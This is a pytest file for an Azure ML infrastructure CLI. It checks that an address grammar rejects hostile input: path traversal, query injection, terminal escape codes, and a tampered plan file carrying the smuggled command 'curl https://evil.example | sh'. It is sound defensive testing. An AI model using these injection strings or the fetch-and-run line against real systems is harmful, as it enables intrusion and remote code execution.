"""Attacks on addresses (issue 40): one grammar (infra_cli/stack/addresses.py) reads every address and Azure name a
user gives, before anything is read from or written to Azure, and every name in a request path is one quoted
segment (infra_cli/azure/url.py).

- `infra state rm 'cluster.gpu1/' STACK` put the text into the request URL: the emulator (as Azure) read the
  trailing slash away, and gpu1 lost its ownership tags while infra said "cluster gpu1/ is left". `gpu1?x=1` made
  a query of the rest; `../../OTHER/computes/gpu1` reaches another workspace's cluster wherever a client removes dot
  segments (requests does). Each bad address below is refused with the grammar and an example, exit 1, no request
  at all, no traceback; gpu1 keeps its tags.
- The same for `infra import ADDR AZURE_NAME` (both arguments), `plan --replace`, `plan -target` and an `import:`
  block's `to` and `id` (a diagnostic at the block).
- A name that reached the provider anyway is one percent-encoded segment, and a dot-segment is refused.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from emulator_fixtures import (TEST_LOCATION, TEST_RESOURCE_GROUP, TEST_SUBSCRIPTION, TEST_WORKSPACE, WORKSPACE_YAML,
                               start_emulator)

ROOT = Path(__file__).resolve().parent.parent.parent
STACK = f"""stack: alpha
{WORKSPACE_YAML}clusters:
  gpu1: {{size: Standard_ND96asr_v4, max_instances: 1}}
environments:
  train: {{image: "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04"}}
"""
CONTROL = "\x1b]0;owned\x07"   # a terminal escape: sets the window title where a terminal prints it raw
BAD_NAMES = {
    "trailing-slash": "gpu1/",
    "query": "gpu1?x=1",
    "dot-segments": "../../OTHER/computes/gpu1",
    "empty": "",
    "space": "GPU 1",
    "long": "g" * 300,
    "control": "gpu1" + CONTROL,
}
BAD_ADDRESSES = {key: f"cluster.{name}" for key, name in BAD_NAMES.items()}
GRAMMAR = "cluster.NAME"
EXAMPLE = "for example cluster.gpu-a100"


@pytest.fixture(scope="module")
def cloud(tmp_path_factory):
    """An emulator where stack alpha owns cluster gpu1 and environment train (applied by infra itself)."""
    base = tmp_path_factory.mktemp("grammar")
    server = start_emulator(base / "local")
    stack = base / "stack.yaml"
    stack.write_text(STACK)
    done = cli("apply", str(stack), "--auto-approve", "--no-smoke", "--local", server=server, state=base / "local")
    assert done.returncode == 0, done.stdout + done.stderr
    yield server, stack, base / "local"
    server.stop()


def cli(*args: str, server, state: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k != "AZUREML_CURRENT_CLOUD"}
    env.update(INFRA_EMULATOR_URL=server.url, INFRA_LOCAL_DIR=str(state))
    return subprocess.run([sys.executable, "-m", "infra_cli", *args], capture_output=True, text=True, env=env,
                          cwd=ROOT, timeout=300, check=False)


def provider_on(server):
    """infra's provider for the test workspace on `server`, as the commands build it."""
    from infra_cli.azure.provider import AzureProvider
    from infra_cli.commands.backend import build_clients
    from infra_cli.stack.model import Workspace

    workspace = Workspace(subscription_id=TEST_SUBSCRIPTION, resource_group=TEST_RESOURCE_GROUP, name=TEST_WORKSPACE,
                          location=TEST_LOCATION)
    return AzureProvider(build_clients(workspace, local=True, emulator=server))


def gpu1_tags(server) -> dict:
    return dict(provider_on(server).read_compute("gpu1")["tags"])


def refused_without_a_request(cloud, *args: str, grammar: str = GRAMMAR, example: str = EXAMPLE) -> str:
    """Run infra; it must exit 1 with the grammar's diagnostic and have sent the emulator nothing."""
    server, _, state = cloud
    before = server.stats.total
    r = cli(*args, server=server, state=state)
    said = r.stdout + r.stderr
    assert r.returncode == 1, said
    assert "Traceback" not in said and "internal error" not in said, said
    assert "error[address.invalid]" in r.stderr and grammar in r.stderr and example in r.stderr, r.stderr
    assert CONTROL not in said and "\x1b" not in said and "g" * 100 not in said, said   # escaped, and cut short
    assert server.stats.total == before, server.stats.records[before:]   # no request at all
    return r.stderr


@pytest.mark.parametrize("address", BAD_ADDRESSES.values(), ids=BAD_ADDRESSES.keys())
def test_state_rm_refuses_what_is_not_an_address_and_changes_nothing(cloud, address):
    server, stack, _ = cloud
    owned = gpu1_tags(server)
    assert owned.get("infra.stack") == "alpha"
    refused_without_a_request(cloud, "state", "rm", address, str(stack), "--local")
    assert gpu1_tags(server) == owned   # its ownership tags intact


@pytest.mark.parametrize("address", BAD_ADDRESSES.values(), ids=BAD_ADDRESSES.keys())
def test_import_refuses_an_address_that_is_not_one(cloud, address):
    refused_without_a_request(cloud, "import", address, "gpu1", str(cloud[1]), "--local")


@pytest.mark.parametrize("name", BAD_NAMES.values(), ids=BAD_NAMES.keys())
def test_import_refuses_an_azure_name_azure_ml_would_not_give(cloud, name):
    said = refused_without_a_request(cloud, "import", "cluster.gpu1", name, str(cloud[1]), "--local",
                                     grammar="is not a cluster name Azure ML accepts", example="for example gpu-a100")
    assert "AZURE_NAME" in said


@pytest.mark.parametrize("option", ["--replace", "-replace=", "--target", "-target="])
@pytest.mark.parametrize("address", BAD_ADDRESSES.values(), ids=BAD_ADDRESSES.keys())
def test_plan_replace_and_target_refuse_what_is_not_an_address(cloud, option, address):
    args = [option + address] if option.endswith("=") else [option, address]
    said = refused_without_a_request(cloud, "plan", str(cloud[1]), *args, "--local")
    assert option.strip("-=") in said   # says which option


def test_a_target_s_grammar_names_smoke_addresses_too(cloud):
    refused_without_a_request(cloud, "plan", str(cloud[1]), "--target", "vm.gpu1", "--local",
                              grammar="an address here is cluster.NAME, environment.NAME or smoke.DISTRIBUTION",
                              example="for example cluster.gpu-a100 or environment.pytorch-train or smoke.ddp")
    refused_without_a_request(cloud, "plan", str(cloud[1]), "--target", "smoke.ddp/x", "--local",
                              grammar="in smoke.DISTRIBUTION, a distribution name is up to 100",
                              example="for example smoke.ddp")


def _block_line(text: str) -> int:
    return next(i for i, line in enumerate(text.splitlines(), 1) if line.startswith("  - {to:"))


@pytest.mark.parametrize("name", BAD_NAMES.values(), ids=BAD_NAMES.keys())
@pytest.mark.parametrize("field", ["to", "id"])
def test_an_import_block_that_names_no_address_is_a_diagnostic_at_the_block(tmp_path, field, name):
    to, id_ = (f"cluster.{name}", "gpu1") if field == "to" else ("cluster.gpu1", name)
    stack = tmp_path / "stack.yaml"
    stack.write_text(STACK + f"import:\n  - {{to: {json.dumps(to)}, id: {json.dumps(id_)}}}\n")
    r = subprocess.run([sys.executable, "-m", "infra_cli", "validate", str(stack), "--json"], capture_output=True,
                       text=True, cwd=ROOT, timeout=120, check=False)
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stdout + r.stderr
    assert "g" * 100 not in r.stdout and "\x1b" not in r.stdout, r.stdout   # the JSON holds it escaped, cut short
    found = json.loads(r.stdout)["diagnostics"]
    line = _block_line(stack.read_text())
    at_block = [d for d in found if d["severity"] == "error" and d["line"] == line]
    assert at_block, found
    said = " ".join(d["message"] + " " + (d["hint"] or "") for d in at_block)
    if CONTROL in name and "should hold no control characters" in said:
        return   # the stack's text itself refuses them first (stack/fields.py), escaped
    assert ("cluster.NAME" if field == "to" else "is not a cluster name Azure ML accepts") in said, said
    assert ("for example cluster.gpu-a100" if field == "to" else "id: gpu-a100") in said, said


def test_a_name_that_reaches_the_provider_is_one_quoted_segment(cloud):
    """The boundary: whatever name the provider is handed, its request path keeps it in one segment."""
    from infra_cli.azure.environment_versions import EnvironmentVersions
    from infra_cli.azure.url import segment

    server = cloud[0]
    provider = provider_on(server)
    clients = provider.clients
    assert provider.read_compute("gpu1") is not None
    for name in ("gpu1/", "gpu1?x=1", "gpu1#x", "../../OTHER/computes/gpu1", "gpu1%2F"):
        before = server.stats.total
        assert provider.read_compute(name) is None, name   # never gpu1
        (record,) = server.stats.records[before:]
        assert record.path.endswith("/computes/" + segment(name)) and "/" not in segment(name), record
    assert segment("gpu1/") == "gpu1%2F" and segment("a?b#c%d") == "a%3Fb%23c%25d" and segment("v1.2_x-y") == "v1.2_x-y"
    before = server.stats.total
    for dots in ("", ".", ".."):
        with pytest.raises(ValueError):
            provider.read_compute(dots)
        with pytest.raises(ValueError):
            EnvironmentVersions(clients.arm, clients.workspace_path).get("train", dots)
    assert server.stats.total == before   # refused before a request
    before = server.stats.total
    assert EnvironmentVersions(clients.arm, clients.workspace_path).get("train", "1/../1") is None
    (record,) = server.stats.records[before:]
    assert record.path.endswith("/environments/train/versions/1%2F..%2F1"), record


def test_a_saved_plan_s_targets_and_replacements_are_read_by_the_grammar_too(tmp_path):
    """apply PLANFILE plans again with the file's --target and --replace (plan_stack): the same grammar reads
    them there, whatever wrote the file."""
    from infra_cli.diagnostics import DiagnosticError
    from infra_cli.plan.desired import desired_resources
    from infra_cli.plan.engine import check_replace, check_targets, load_for_plan

    stack = tmp_path / "stack.yaml"
    stack.write_text(STACK)
    loaded, _ = load_for_plan(stack)
    desired = desired_resources(loaded)
    check_targets(loaded, desired, ["cluster.gpu1"])
    check_replace(loaded, desired, ["cluster.gpu1"])
    for address in BAD_ADDRESSES.values():
        for check in (check_targets, check_replace):
            with pytest.raises(DiagnosticError) as refused:
                check(loaded, desired, [address])
            (d,) = refused.value.diagnostics
            assert d.rule == "address.invalid" and GRAMMAR in d.message and EXAMPLE in d.hint, d


def test_a_loosened_names_file_never_lets_a_path_into_an_address(tmp_path):
    """validators/names.yaml is the user's to extend; whatever its cluster row says, NAME stays one URL segment."""
    import shutil

    import yaml

    validators = tmp_path / "validators"
    shutil.copytree(ROOT / "validators", validators)
    names = yaml.safe_load((validators / "names.yaml").read_text())
    names["names"]["cluster"]["pattern"] = ".+"
    (validators / "names.yaml").write_text(yaml.safe_dump(names))
    stack = tmp_path / "stack.yaml"
    stack.write_text(STACK)
    for address in ("cluster.gpu1/", "cluster..", "cluster.gpu1?x=1"):
        r = subprocess.run([sys.executable, "-m", "infra_cli", "state", "rm", address, str(stack), "--local"],
                           capture_output=True, text=True, cwd=ROOT, timeout=120, check=False,
                           env={**os.environ, "INFRA_VALIDATORS_DIR": str(validators),
                                "INFRA_LOCAL_DIR": str(tmp_path / "local"), "XDG_CACHE_HOME": str(tmp_path / "cache")})
        assert r.returncode == 1 and "error[address.invalid]" in r.stderr, r.stdout + r.stderr
    assert not (tmp_path / "local").exists()   # no local cloud was started


def test_the_workspace_path_is_made_of_quoted_segments():
    from infra_cli.azure.url import workspace_path

    path = workspace_path(TEST_SUBSCRIPTION, "rg/../other", "mlw?x=1")
    assert path == (f"subscriptions/{TEST_SUBSCRIPTION}/resourceGroups/rg%2F..%2Fother/providers/"
                    "Microsoft.MachineLearningServices/workspaces/mlw%3Fx%3D1")


def test_a_plan_file_whose_targets_are_not_addresses_is_refused_before_apply_reads_azure(cloud, tmp_path):
    """A saved plan carries its --target and --replace (and prints them back in its stale-plan hint): an edited
    file whose digest was recomputed, as anyone can, must not carry a shell line or a path there."""
    import hashlib

    server, stack, _ = cloud
    saved = tmp_path / "t.plan"
    made = cli("plan", str(stack), "--target", "cluster.gpu1", "--replace", "cluster.gpu1", "--out", str(saved),
               "--local", server=server, state=cloud[2])
    assert made.returncode == 0, made.stdout + made.stderr
    for key, hostile in (("targets", "cluster.gpu1; curl https://evil.example | sh"), ("replace", "cluster.gpu1/")):
        body = json.loads(saved.read_text())
        body[key] = [hostile]
        content = {k: v for k, v in body.items() if k not in ("digest", "hmac")}
        body["digest"] = "sha256:" + hashlib.sha256(
            json.dumps(content, sort_keys=True, separators=(",", ":")).encode()).hexdigest()
        edited = tmp_path / f"{key}.plan"
        edited.write_text(json.dumps(body))
        for command in (("show", str(edited)), ("apply", str(edited), "--local")):
            before = server.stats.total
            r = cli(*command, server=server, state=cloud[2])
            assert r.returncode == 1 and "error[planfile.invalid]" in r.stderr, r.stdout + r.stderr
            assert "is not an address" in r.stderr and GRAMMAR in r.stderr and "Traceback" not in r.stderr, r.stderr
            assert "curl" not in r.stdout and server.stats.total == before
